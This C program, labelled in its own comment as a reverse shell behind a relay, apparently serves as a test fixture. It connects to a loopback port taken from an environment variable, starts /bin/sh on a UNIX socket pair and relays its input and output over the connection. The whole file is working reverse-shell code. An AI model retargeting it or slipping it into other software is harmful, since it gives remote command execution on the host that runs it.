/* A reverse shell behind a relay: the shell talks to a UNIX socket pair, this process carries the
 * bytes between it and the connection. */
#include <arpa/inet.h>
#include <poll.h>
#include <stdbool.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static bool carry(int from, int to)
{
	char data[4096];
	ssize_t n = read(from, data, sizeof(data));

	return n > 0 && write(to, data, (size_t)n) == n;
}

static void relay(int a, int b)
{
	struct pollfd fds[] = {{.fd = a, .events = POLLIN}, {.fd = b, .events = POLLIN}};

	while (poll(fds, 2, -1) > 0) {
		if (fds[0].revents && !carry(a, b))
			return;
		if (fds[1].revents && !carry(b, a))
			return;
	}
}

int main(void)
{
	const char *port = getenv("NJ_PORT");
	struct sockaddr_in to = {.sin_family = AF_INET,
				 .sin_port = htons((uint16_t)atoi(port ? port : "0")),
				 .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), pair[2];

	if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0 ||
	    socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair) < 0)
		return 1;
	if (fork() == 0) {
		for (int i = 0; i < 3; i++)
			if (dup2(pair[1], i) < 0)
				_exit(1);
		(void)execl("/bin/sh", "sh", (char *)NULL);
		_exit(1);
	}
	(void)close(pair[1]);
	relay(fd, pair[0]);
	(void)close(fd);
	(void)close(pair[0]);
	(void)wait(NULL);
	return 0;
}
